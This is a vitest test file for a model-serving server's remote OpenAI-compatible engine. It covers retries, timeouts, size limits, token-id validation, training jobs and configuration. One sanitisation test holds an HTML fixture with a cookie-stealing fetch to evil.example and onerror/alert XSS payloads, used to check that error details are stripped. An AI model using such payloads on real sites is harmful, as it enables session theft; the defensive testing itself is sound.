/**
 * The remote engine against a real node:http server that misbehaves on purpose (errors, 429 with
 * Retry-After, slow answers, malformed answers, answers outside availableActions), through a real
 * lamer-server (test engine locally) with the remote version registered by `POST /v1/models`.
 */
import http from 'node:http';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { Ajv } from 'ajv';
import { exportLines } from '../../src/db/export.js';
import { constraintFields, matchChoice, toMessages } from '../../src/policy/openai-engine.js';
import { dumpDb, startTestServer, type TestServer } from '../helpers/index.js';

type Behaviour = (body: any, res: http.ServerResponse, hit: number) => void;

let remote: http.Server;
let remoteUrl: string;
let behaviour: Behaviour;
let hits: any[] = [];
let server: TestServer;

const answer = (content: string, extra: Record<string, unknown> = {}) => ({
  id: 'x', object: 'chat.completion', created: 0, model: 'm',
  choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop', ...extra }],
});
const send = (res: http.ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) => {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(typeof body === 'string' ? body : JSON.stringify(body));
};

beforeAll(async () => {
  remote = http.createServer((req, res) => {
    let raw = '';
    req.on('data', (c) => (raw += c));
    req.on('end', () => {
      const body = JSON.parse(raw);
      hits.push({ url: req.url, auth: req.headers.authorization, body });
      behaviour(body, res, hits.length);
    });
  });
  await new Promise<void>((r) => remote.listen(0, '127.0.0.1', r));
  remoteUrl = `http://127.0.0.1:${(remote.address() as AddressInfo).port}/v1`;
  server = await startTestServer();
  const reg = (version: string, extra: Record<string, unknown>) =>
    server.call('POST', '/v1/models', { version, engine: 'openai', baseUrl: remoteUrl, model: 'qwen', parent: 'test', timeoutMs: 300, maxRetries: 2, ...extra });
  expect((await reg('plain', { kind: 'plain', apiKey: 'sk-remote-1' })).status).toBe(201);
  expect((await reg('vllm', { kind: 'vllm' })).status).toBe(201);
  expect((await reg('llama', { kind: 'llamacpp' })).status).toBe(201);
  expect((await reg('oai', { kind: 'openai', maxRetries: 0 })).status).toBe(201);
  expect((await reg('capped', { kind: 'plain', maxResponseBytes: 1 << 20 })).status).toBe(201);
  expect((await reg('lam', { kind: 'lamer' })).status).toBe(201);
  expect((await reg('bounded', { kind: 'plain', maxRetries: 5, callTimeoutMs: 500 })).status).toBe(201);
});
afterAll(async () => {
  await server?.close();
  await new Promise<void>((r) => remote.close(() => r()));
});
beforeEach(() => {
  hits = [];
  behaviour = (_b, res) => send(res, 200, answer('door 2'));
});

async function session(version: string): Promise<string> {
  const s = await server.call('POST', '/v1/sessions', { taskId: 't', instructions: 'Rules.', modelVersion: version, sampling: { temperature: 0.7, topP: 0.8, topK: 20, seed: 1 } });
  expect(s.status).toBe(201);
  return s.body.id;
}
const step0 = (id: string, extra: Record<string, unknown> = {}) =>
  server.call('POST', `/v1/sessions/${id}/steps`, { attempt: 0, step: 0, observation: 'Three doors.', availableActions: ['door 1', 'door 2', 'door 3'], ...extra });

describe('registering remote versions', () => {
  it('registers as candidate with its parent; refuses duplicates, unknown parents and bad URLs', async () => {
    const m = await server.call('GET', '/v1/models/plain');
    expect(m.body).toMatchObject({ version: 'plain', parent: 'test', status: 'candidate', engine: 'openai', remote: { kind: 'plain', hasApiKey: true, model: 'qwen' } });
    expect(JSON.stringify(m.body)).not.toContain('sk-remote-1');
    expect((await server.call('POST', '/v1/models', { version: 'plain', engine: 'openai', baseUrl: remoteUrl, model: 'q' })).status).toBe(409);
    const orphan = await server.call('POST', '/v1/models', { version: 'o', engine: 'openai', baseUrl: remoteUrl, model: 'q', parent: 'nope' });
    expect(orphan.status).toBe(400);
    expect((await server.call('POST', '/v1/models', { version: 'u', engine: 'openai', baseUrl: 'ftp://x', model: 'q' })).status).toBe(400);
    const bad = await server.call('POST', '/v1/models', { version: 'u', engine: 'openai', baseUrl: 'http://[bad', model: 'q' });
    expect(bad.status).toBe(400);
    expect(bad.body.errors).toEqual([{ field: 'body/baseUrl', message: 'is not a URL' }]);
    const creds = await server.call('POST', '/v1/models', { version: 'c', engine: 'openai', baseUrl: 'http://user:pw@127.0.0.1:1/v1', model: 'q' });
    expect(creds.status).toBe(400);
    expect(creds.body.errors).toEqual([{ field: 'body/baseUrl', message: 'must not contain a user name or password (send the key as apiKey)' }]);
    expect((await server.call('GET', '/v1/models/c')).status).toBe(404);
    expect((await server.call('GET', '/v1/models/o')).status).toBe(404);
  });

  it('refuses version names made only of dots (".", "..", "...") with 400 naming body/version; nothing registered', async () => {
    const before = dumpDb(server.dataDir);
    for (const version of ['.', '..', '...', '.........']) {
      const r = await server.call('POST', '/v1/models', { version, engine: 'openai', baseUrl: remoteUrl, model: 'q' });
      expect(r.status, version).toBe(400);
      expect(r.body.errors?.[0]?.field).toBe('body/version');
    }
    expect(dumpDb(server.dataDir)).toBe(before);
    // dots among other characters are fine
    expect((await server.call('POST', '/v1/models', { version: 'v1.2..3', engine: 'openai', baseUrl: remoteUrl, model: 'q' })).status).toBe(201);
    expect((await server.call('POST', '/v1/models', { version: '.hidden', engine: 'openai', baseUrl: remoteUrl, model: 'q' })).status).toBe(201);
  });

  it('shows gate null for free metrics whose `gate` is not a gate report, and keeps them in metrics', async () => {
    for (const [version, gate] of [['g-text', 'passed'], ['g-partial', { status: 'passed', promoted: true }]] as const) {
      const r = await server.call('POST', '/v1/models', { version, engine: 'openai', baseUrl: remoteUrl, model: 'q', metrics: { gate } });
      expect(r.status).toBe(201);
      expect(r.body).toMatchObject({ version, gate: null, metrics: { gate } });
      const one = await server.call('GET', `/v1/models/${version}`);
      expect(one.status).toBe(200);
      expect(one.body).toMatchObject({ gate: null, metrics: { gate } });
    }
    const list = await server.call('GET', '/v1/models');
    expect(list.status).toBe(200);
    expect(list.body.items.filter((m: { version: string }) => m.version.startsWith('g-')).map((m: { gate: unknown }) => m.gate)).toEqual([null, null]);
  });
});

describe('a remote version that misbehaves', () => {
  it('sends the chat messages, sampling, key and the kind constraint; records what came back', async () => {
    const id = await session('plain');
    const r = await step0(id);
    expect(r.status).toBe(200);
    expect(r.body.action).toBe('door 2');
    expect(hits).toHaveLength(1);
    const h = hits[0];
    expect(h.url).toBe('/v1/chat/completions');
    expect(h.auth).toBe('Bearer sk-remote-1');
    expect(h.body.messages).toEqual([
      { role: 'system', content: 'Rules.' },
      { role: 'user', content: 'Observation:\nThree doors.\nAction: ' },
    ]);
    expect(h.body).toMatchObject({ model: 'qwen', temperature: 0.7, top_p: 0.8, logprobs: true, max_tokens: 64 });
    expect(h.body.top_k).toBeUndefined(); // plain OpenAI servers refuse unknown fields
    expect(typeof h.body.seed).toBe('number');
    const t = await server.call('GET', `/v1/sessions/${id}/trajectory`);
    // no logprobs or ids were returned: recorded as null, not as empty arrays
    expect(t.body.steps[0]).toMatchObject({ output: 'door 2', action: 'door 2', promptTokenIds: null, outputTokenIds: null, logprobs: null });
  });

  it('uses structured_outputs (vLLM), grammar (llama.cpp) and response_format (OpenAI) per kind', async () => {
    behaviour = (_b, res) => send(res, 200, answer('door 3', { token_ids: [7, 8], logprobs: { content: [{ token: 'token_id:7', logprob: -0.5 }, { token: 'token_id:8', logprob: -0.25 }] } }));
    const v = await step0(await session('vllm'));
    expect(v.body.action).toBe('door 3');
    expect(hits[0].body).toMatchObject({ structured_outputs: { choice: ['door 1', 'door 2', 'door 3'] }, top_k: 20, return_token_ids: true });
    const l = await step0(await session('llama'));
    expect(l.status).toBe(200);
    expect(hits[1].body.grammar).toBe('root ::= "door 1" | "door 2" | "door 3"');
    behaviour = (_b, res) => send(res, 200, answer('{"action": "door 1"}'));
    const o = await step0(await session('oai'));
    expect(o.body.action).toBe('door 1');
    expect(hits[2].body.response_format.json_schema.schema.properties.action.enum).toEqual(['door 1', 'door 2', 'door 3']);
    const vid = v.body.sessionId;
    const t = await server.call('GET', `/v1/sessions/${vid}/trajectory`);
    expect(t.body.steps[0]).toMatchObject({ outputTokenIds: [7, 8], logprobs: [-0.5, -0.25] });
  });

  it('retries 5xx and 429 (Retry-After) and then answers', async () => {
    behaviour = (_b, res, n) => (n === 1 ? send(res, 502, { error: 'bad gateway' }) : n === 2 ? send(res, 429, { error: 'slow down' }, { 'retry-after': '0' }) : send(res, 200, answer('door 1')));
    const r = await step0(await session('plain'));
    expect(r.status).toBe(200);
    expect(r.body.action).toBe('door 1');
    expect(hits).toHaveLength(3);
  });

  it('answers 503 engine-unavailable and records nothing when every try fails, then the same step succeeds', async () => {
    const id = await session('plain');
    const before = dumpDb(server.dataDir);
    behaviour = (_b, res) => send(res, 500, 'internal');
    const r = await step0(id);
    expect(r.status).toBe(503);
    expect(r.body.type).toContain('engine-unavailable');
    expect(r.headers.get('retry-after')).toBe('1');
    expect(r.body.detail).toContain('HTTP 500');
    expect(r.body.detail).not.toContain(remoteUrl); // the server's address is not shown to tenants
    expect(hits).toHaveLength(3); // 1 + maxRetries
    expect(dumpDb(server.dataDir)).toBe(before);
    behaviour = (_b, res) => send(res, 200, answer('door 2'));
    expect((await step0(id)).status).toBe(200);
  });

  it('times out a slow server (per try) and answers 503', async () => {
    const id = await session('plain');
    const before = dumpDb(server.dataDir);
    behaviour = (_b, res) => setTimeout(() => send(res, 200, answer('door 1')), 1500);
    const r = await step0(id);
    expect(r.status).toBe(503);
    expect(r.body.detail).toContain('no answer within 300 ms');
    expect(hits).toHaveLength(3); // each try timed out (1 + maxRetries), none waited for the answer
    expect(dumpDb(server.dataDir)).toBe(before);
  });

  it('answers 503 at once (no retry) for a malformed answer or a refused request', async () => {
    const id = await session('plain');
    behaviour = (_b, res) => send(res, 200, { choices: [] });
    const r = await step0(id);
    expect(r.status).toBe(503);
    expect(r.body.detail).toContain('malformed');
    behaviour = (_b, res) => send(res, 200, 'not json at all');
    expect((await step0(id)).body.detail).toContain('not JSON');
    behaviour = (_b, res) => send(res, 400, { error: { message: 'context too long' } });
    expect((await step0(id)).body.detail).toContain('context too long');
    expect(hits).toHaveLength(3);
  });

  it("never echoes the remote's error body raw in the 503 detail: status and a short plain-text excerpt, markup stripped", async () => {
    const id = await session('oai');
    const before = dumpDb(server.dataDir);
    const page = '<!DOCTYPE html><html><head><title>502 Bad Gateway</title><style>h1{color:red}</style>' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script></head>' +
      '<body onload="alert(1)"><h1>Bad   Gateway</h1>\n<p>upstream <b>vllm-7</b> is down</p><!-- node 10.1.2.3 -->' + 'x'.repeat(5000) + '</body></html>';
    const html = (status: number) => (_b: unknown, res: http.ServerResponse) => {
      res.writeHead(status, { 'content-type': 'text/html' });
      res.end(page);
    };
    for (const status of [500, 403]) {
      behaviour = html(status);
      const r = await step0(id);
      expect(r.status).toBe(503);
      const detail: string = r.body.detail;
      expect(detail).toContain(`HTTP ${status}`);
      expect(detail).toContain('Bad Gateway');
      for (const bad of ['<', '>', 'script', 'alert', 'cookie', 'evil.example', 'color:red', '10.1.2.3', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx']) {
        expect(detail, bad).not.toContain(bad);
      }
      expect(detail.length).toBeLessThan(250);
    }
    // an error message in JSON (OpenAI's shape) is shown, as plain text
    behaviour = (_b, res) => send(res, 400, { error: { message: '<img src=x onerror="alert(1)">prompt is <b>too long</b>\u0000\u001b[31m' } });
    const j = await step0(id);
    expect(j.body.detail).toContain('HTTP 400');
    expect(j.body.detail).toContain('prompt is too long');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the excerpt must hold no control characters
    expect(j.body.detail).not.toMatch(/[<>\u0000-\u001f]|onerror|alert/);
    // a 200 that is not JSON: the same excerpt rule
    behaviour = (_b, res) => send(res, 200, '<html><script>alert(2)</script>maintenance</html>');
    const n = await step0(id);
    expect(n.body.detail).toContain('not JSON');
    expect(n.body.detail).toContain('maintenance');
    expect(n.body.detail).not.toMatch(/[<>]|script|alert/);
    expect(dumpDb(server.dataDir)).toBe(before);
  });

  it('records an answer outside availableActions as an invalid choice and executes its parsed text', async () => {
    const id = await session('plain');
    behaviour = (_b, res) => send(res, 200, answer('I would open the window\nbecause...'));
    const r = await step0(id);
    expect(r.status).toBe(200);
    expect(r.body.action).toBe('I would open the window');
    expect(r.body.output).toBe('I would open the window\nbecause...');
    const db = new Database(join(server.dataDir, 'lamer.db'), { readonly: true });
    const row = db.prepare('SELECT engine_record FROM steps WHERE session_id = ?').get(id) as { engine_record: string };
    db.close();
    expect(JSON.parse(row.engine_record)).toMatchObject({ constraint: 'parse', invalidChoice: true, available: { logprobs: false } });
    // lamer export carries the record, valid against docs/export.schema.json
    const lines = [...exportLines(join(server.dataDir, 'lamer.db'))].filter((l) => l.sessionId === id);
    expect(lines).toHaveLength(1);
    expect(lines[0]!.engine).toMatchObject({ engine: 'openai', invalidChoice: true, messages: [{ role: 'system', content: 'Rules.' }, { role: 'user' }] });
    const ajv = new Ajv({ allErrors: true, strict: true });
    ajv.addFormat('date-time', (x: string) => !Number.isNaN(Date.parse(x)));
    const validate = ajv.compile(JSON.parse(readFileSync(join(import.meta.dirname, '..', '..', 'docs', 'export.schema.json'), 'utf8')));
    expect(validate(lines[0]), JSON.stringify(validate.errors)).toBe(true);
  });
});

describe('a remote version that answers too much or nonsense', () => {
  const stepRow = (id: string) => {
    const db = new Database(join(server.dataDir, 'lamer.db'), { readonly: true });
    const row = db.prepare('SELECT prompt, prompt_truncated_chars, output, action, prompt_token_ids, output_token_ids, logprobs, engine_record FROM steps WHERE session_id = ?').get(id) as Record<string, any>;
    db.close();
    return row;
  };

  it('reads the answer as a stream and gives it up past maxResponseBytes (not retried, nothing recorded)', async () => {
    const id = await session('capped');
    const before = dumpDb(server.dataDir);
    let written = 0;
    let closed = false;
    const LIMIT = 16 << 20; // the writer stops here if nobody hangs up
    behaviour = (_b, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.on('close', () => (closed = true));
      const chunk = Buffer.from('x'.repeat(64 * 1024));
      res.write('{"choices":[{"index":0,"message":{"role":"assistant","content":"');
      const pump = (): void => {
        while (!closed && written < LIMIT) {
          written += chunk.length;
          if (!res.write(chunk)) {
            res.once('drain', pump);
            return;
          }
        }
        if (!closed) res.end('"},"finish_reason":"stop"}]}');
      };
      pump();
    };
    const r = await step0(id);
    expect(r.status).toBe(503);
    expect(r.body.type).toContain('engine-unavailable');
    expect(r.body.detail).toBe("remote model version 'capped' failed: answer is larger than the limit of 1048576 bytes (cut off there)");
    expect(hits).toHaveLength(1);
    // the remote sees the hang-up (polled: a fixed 50 ms wait raced it on a loaded machine)
    await vi.waitFor(() => expect(closed).toBe(true), { timeout: 10_000, interval: 10 });
    expect(written).toBeLessThan(LIMIT);
    expect(dumpDb(server.dataDir)).toBe(before);
    // a declared length over the limit is refused before reading
    behaviour = (_b, res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(2 << 20) });
      res.write('{');
      res.on('close', () => {});
    };
    const d = await step0(id);
    expect(d.status).toBe(503);
    expect(d.body.detail).toBe("remote model version 'capped' failed: answer of 2097152 bytes is larger than the limit of 1048576 bytes");
  });

  it('cuts an answer longer than its token cap allows, and the action parsed from it to LAMER_MAX_ACTION_CHARS', async () => {
    const id = await session('plain');
    const huge = 'x'.repeat(100_000);
    behaviour = (_b, res) => send(res, 200, answer(huge, { token_ids: [1, 2], logprobs: { content: [{ token: 'x', logprob: -1 }, { token: 'x', logprob: -1 }] } }));
    const r = await step0(id);
    expect(r.status).toBe(200);
    expect(r.body.action).toBe('x'.repeat(1024)); // LAMER_MAX_ACTION_CHARS
    expect(r.body.output).toBe('x'.repeat(64 * 32)); // maxActionTokens x 32 characters
    const row = stepRow(id);
    expect(row.action).toBe('x'.repeat(1024));
    expect(row.output).toBe('x'.repeat(2048));
    expect([row.output_token_ids, row.logprobs]).toEqual([null, null]);
    expect(JSON.parse(row.engine_record)).toMatchObject({ invalidChoice: true, outputCutChars: 100_000 - 2048, available: { outputTokenIds: false, logprobs: false } });
    // the session goes on: its next prompt holds the cut action, not the whole answer
    behaviour = (_b, res) => send(res, 200, answer('door 1'));
    const next = await server.call('POST', `/v1/sessions/${id}/steps`, { attempt: 0, step: 1, observation: 'Still three doors.', availableActions: ['door 1', 'door 2'] });
    expect(next.status).toBe(200);
    expect(hits.at(-1).body.messages[1].content.length).toBeLessThan(1200);
  });

  it('treats token ids outside [0, 2^31) or disagreeing with usage as not returned', async () => {
    const id = await session('vllm');
    behaviour = (_b, res) => send(res, 200, {
      ...answer('door 3', { token_ids: [1e300, -5], logprobs: { content: [{ token: 'token_id:99999999999', logprob: -0.5 }, { token: 'token_id:8', logprob: -0.25 }] } }),
      prompt_token_ids: [-1, 1e300],
    });
    expect((await step0(id)).status).toBe(200);
    const row = stepRow(id);
    expect([row.prompt_token_ids, row.output_token_ids]).toEqual([null, null]);
    expect(JSON.parse(row.logprobs)).toEqual([-0.5, -0.25]);
    expect(JSON.parse(row.engine_record).available).toEqual({ promptTokenIds: false, outputTokenIds: false, logprobs: true });
    const id2 = await session('vllm');
    behaviour = (_b, res) => send(res, 200, {
      ...answer('door 3', { token_ids: [7, 8] }), prompt_token_ids: [1, 2, 3], usage: { prompt_tokens: 900, completion_tokens: 2, total_tokens: 902 },
    });
    expect((await step0(id2)).status).toBe(200);
    const row2 = stepRow(id2);
    expect([row2.prompt_token_ids, JSON.parse(row2.output_token_ids)]).toEqual([null, [7, 8]]);
    // more ids than max_tokens (64) are kept when a candidate the server chose needs them
    const long = 'go '.repeat(40).trim(); // 119 bytes: up to 120 tokens
    const ids = Array.from({ length: 100 }, (_, i) => i);
    const id3 = await session('vllm');
    behaviour = (_b, res) => send(res, 200, answer(long, { token_ids: ids }));
    const r3 = await step0(id3, { availableActions: ['stay', long] });
    expect(r3.body.action).toBe(long);
    expect(JSON.parse(stepRow(id3).output_token_ids)).toEqual(ids);
    // without such a candidate the same answer's ids are over the cap: not returned
    const id4 = await session('vllm');
    behaviour = (_b, res) => send(res, 200, answer('stay', { token_ids: ids }));
    expect((await step0(id4, { availableActions: ['stay', 'go'] })).body.action).toBe('stay');
    expect(stepRow(id4).output_token_ids).toBeNull();
  });

  it('(kind lamer) never blanks the prompt: ids that do not spell the end of what was sent are not returned', async () => {
    const sent = 'Rules.\nObservation:\nThree doors.\nAction: ';
    for (const ids of [[-1, 1e300], [256, 300, 9999], [...Buffer.from('zzz')], [256]]) {
      const id = await session('lam');
      behaviour = (_b, res) => send(res, 200, { ...answer('door 1', { token_ids: [100, 259] }), prompt_token_ids: ids });
      expect((await step0(id)).status).toBe(200);
      const row = stepRow(id);
      expect(row, JSON.stringify(ids)).toMatchObject({ prompt: sent, prompt_truncated_chars: 0, prompt_token_ids: null });
    }
    // ids of the end of the prompt (the remote cut its start) are kept, with the characters cut
    const id = await session('lam');
    behaviour = (_b, res) => send(res, 200, { ...answer('door 1'), prompt_token_ids: [256, ...Buffer.from('Three doors.\nAction: ')] });
    expect((await step0(id)).status).toBe(200);
    expect(stepRow(id)).toMatchObject({ prompt: 'Three doors.\nAction: ', prompt_truncated_chars: sent.length - 'Three doors.\nAction: '.length });
  });

  it('bounds the whole call (tries and backoffs) by callTimeoutMs', async () => {
    const id = await session('bounded');
    behaviour = (_b, res) => setTimeout(() => send(res, 200, answer('door 1')), 1500);
    const r = await step0(id);
    expect(r.status).toBe(503);
    // one try of 300 ms; a retry after a 200 ms backoff could not end within the 500 ms bound
    expect(r.body.detail).toBe("remote model version 'bounded' failed: no answer within 300 ms; no time left for a retry within the call bound of 500 ms");
    expect(hits).toHaveLength(1);
    const m = await server.call('GET', '/v1/models/bounded');
    expect(m.body.remote).toMatchObject({ callTimeoutMs: 500, maxResponseBytes: 4 * 1024 * 1024, maxRetries: 5 });
  });
});

describe('training data of a remote version without token ids', () => {
  it('a job writes the turns with their messages, text, advantages, and null token arrays', async () => {
    behaviour = (_b, res) => send(res, 200, answer('door 2'));
    for (const win of [true, false]) {
      const s = await server.call('POST', '/v1/sessions', { taskId: 'plain-task', instructions: 'Rules.', modelVersion: 'plain', maxAttempts: 1 });
      expect((await step0(s.body.id)).status).toBe(200);
      const end = await server.call('POST', `/v1/sessions/${s.body.id}/steps`, { attempt: 0, step: 1, observation: 'End.', reward: win ? 1 : 0, done: true, success: win });
      expect(end.body.session.status).toBe('completed');
    }
    const job = await server.call('POST', '/v1/training/jobs', { algorithm: 'grpo', baseVersion: 'plain' });
    expect(job.status).toBe(201);
    let j = job.body;
    for (let i = 0; i < 100 && (j.status === 'queued' || j.status === 'running'); i++) {
      await new Promise((r) => setTimeout(r, 50));
      j = (await server.call('GET', `/v1/training/jobs/${job.body.id}`)).body;
    }
    expect(j).toMatchObject({ status: 'succeeded', resultVersion: null, dataset: { path: `datasets/${job.body.id}/batch.jsonl`, samples: 2 } });
    const lines = readFileSync(join(server.dataDir, 'datasets', job.body.id, 'batch.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(lines).toHaveLength(2);
    for (const l of lines) {
      expect(l).toMatchObject({ kind: 'action', modelVersion: 'plain', output: 'door 2', promptTokenIds: null, outputTokenIds: null, oldLogprobs: null });
      expect(l.messages[0]).toEqual({ role: 'system', content: 'Rules.' });
    }
    // GRPO: the winner's turn above the group mean, the loser's below, by the same amount
    const [lo, hi] = lines.map((l) => l.advantage as number).sort((x, y) => x - y);
    expect(hi).toBeGreaterThan(0);
    expect(lo).toBeCloseTo(-hi!, 12);
  });
});

describe('training jobs on a remote base version', () => {
  it('refuses an sft job with 400 when it is posted (nothing queued, no demonstrations file left)', async () => {
    const { existsSync, readdirSync } = await import('node:fs');
    const inline = join(server.dataDir, 'demos', 'inline');
    const files = () => (existsSync(inline) ? readdirSync(inline).length : 0);
    const filesBefore = files();
    const before = (await server.call('GET', '/v1/training/jobs?limit=200')).body.items.length;
    const r = await server.call('POST', '/v1/training/jobs', {
      algorithm: 'sft', baseVersion: 'plain',
      demonstrations: { sessions: [{ env: 'doors', taskId: 'd', instructions: 'Rules.', memory: 'reflection_only', attempts: [{ steps: [{ observation: 'o', action: 'door 1', reward: 1, done: true, success: true }], reflection: null }] }] },
    });
    expect(r.status).toBe(400);
    expect(r.body.type).toBe('https://lamer-server.dev/problems/validation');
    expect(r.body.errors).toEqual([{ field: 'body/baseVersion', message: expect.stringContaining("base version 'plain' is remote") }]);
    expect((await server.call('GET', '/v1/training/jobs?limit=200')).body.items.length).toBe(before);
    expect(files()).toBe(filesBefore);
  });
});

describe('pure parts', () => {
  it('splits the prompt into system and user messages that join back with a newline', () => {
    const p = { head: 'Rules.\nReflections on earlier attempts:\nAttempt 0: x', steps: ['\nObservation:\ny\nAction: a'], tail: '\nObservation:\nz\nAction:' };
    const msgs = toMessages(p, 'Rules.');
    expect(msgs.map((m) => m.content).join('\n')).toBe(p.head + p.steps.join('') + p.tail);
    expect(toMessages(p)).toEqual([{ role: 'user', content: p.head + p.steps.join('') + p.tail }]);
  });
  it('matches answers to candidates', () => {
    expect(matchChoice(' door 2 ', ['door 1', 'door 2'])).toBe(1);
    expect(matchChoice('Action: Door 1\nbecause', ['door 1', 'door 2'])).toBe(0);
    expect(matchChoice('{"action":"door 2"}', ['door 1', 'door 2'])).toBe(1);
    expect(matchChoice('window', ['door 1'])).toBe(-1);
    expect(constraintFields('llamacpp', ['say "hi"\n']).fields.grammar).toBe('root ::= "say \\"hi\\"\\n"');
  });
});

describe('configuration (LAMER_ENGINE=openai)', () => {
  it('reads LAMER_OPENAI_* and names the variable of a bad value', async () => {
    const { loadConfig } = await import('../../src/config.js');
    const env = { LAMER_ENGINE: 'openai', LAMER_OPENAI_BASE_URL: 'http://gpu:8000/v1', LAMER_OPENAI_MODEL: 'Qwen/Qwen3-4B', LAMER_OPENAI_KIND: 'vllm' };
    expect(loadConfig(env).openai).toEqual({
      baseUrl: 'http://gpu:8000/v1', model: 'Qwen/Qwen3-4B', kind: 'vllm', concurrency: 8, timeoutMs: 60000, maxRetries: 3, maxActionTokens: 64, maxReflectionTokens: 512,
      maxResponseBytes: 4 * 1024 * 1024, callTimeoutMs: 100_000,
    });
    expect(loadConfig({ ...env, LAMER_OPENAI_MAX_RESPONSE_BYTES: '65536', LAMER_OPENAI_CALL_TIMEOUT_MS: '90000' }).openai).toMatchObject({ maxResponseBytes: 65536, callTimeoutMs: 90000 });
    expect(() => loadConfig({ ...env, LAMER_OPENAI_CALL_TIMEOUT_MS: '0' })).toThrow(/LAMER_OPENAI_CALL_TIMEOUT_MS/);
    expect(loadConfig({}).openai).toBeNull();
    expect(() => loadConfig({ ...env, LAMER_OPENAI_BASE_URL: 'gpu:8000' })).toThrow(/LAMER_OPENAI_BASE_URL/);
    expect(() => loadConfig({ ...env, LAMER_OPENAI_BASE_URL: 'http://u:secret@gpu:8000/v1' })).toThrow(/must not contain a user name or password/);
    expect(() => loadConfig({ ...env, LAMER_OPENAI_MODEL: '' })).toThrow(/LAMER_OPENAI_MODEL/);
    expect(() => loadConfig({ ...env, LAMER_OPENAI_KIND: 'tgi' })).toThrow(/LAMER_OPENAI_KIND/);
  });
});

describe('/readyz with a remote active version', () => {
  it('probes its server (cached, short timeout) and says which version is not reachable', async () => {
    let probes = 0;
    const up = http.createServer((req, res) => {
      if (req.method === 'GET' && req.url === '/v1/models') {
        probes++;
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end('{"object":"list","data":[]}');
        return;
      }
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => up.listen(0, '127.0.0.1', r));
    const upUrl = `http://127.0.0.1:${(up.address() as AddressInfo).port}/v1`;
    // a port nothing listens on: a server that was just closed
    const gone = http.createServer();
    await new Promise<void>((r) => gone.listen(0, '127.0.0.1', r));
    const goneUrl = `http://127.0.0.1:${(gone.address() as AddressInfo).port}/v1`;
    await new Promise<void>((r) => gone.close(() => r()));
    const remoteCfg = (baseUrl: string) => ({ baseUrl, model: 'm', kind: 'plain' as const, concurrency: 1, timeoutMs: 1000, maxRetries: 0, maxActionTokens: 8, maxReflectionTokens: 8 });
    const a = await startTestServer({ engine: 'openai', openai: remoteCfg(upUrl) });
    const b = await startTestServer({ engine: 'openai', openai: remoteCfg(goneUrl) });
    try {
      const r1 = await a.call('GET', '/readyz');
      expect(r1.status).toBe(200);
      expect(r1.body.model).toMatchObject({ version: 'base', loaded: true, remote: { reachable: true } });
      expect(r1.body.model.remote.detail).toBeUndefined();
      const r2 = await a.call('GET', '/readyz');
      expect(r2.body.model.remote.checkedAt).toBe(r1.body.model.remote.checkedAt); // the cached probe
      expect(probes).toBe(1);
      const down = await b.call('GET', '/readyz');
      expect(down.status).toBe(503);
      expect(down.body).toMatchObject({ status: 'not-ready', database: true, model: { version: 'base', loaded: true, remote: { reachable: false, detail: 'cannot reach the server: ECONNREFUSED' } } });
    } finally {
      await a.close();
      await b.close();
      await new Promise<void>((r) => up.close(() => r()));
    }
  });
});
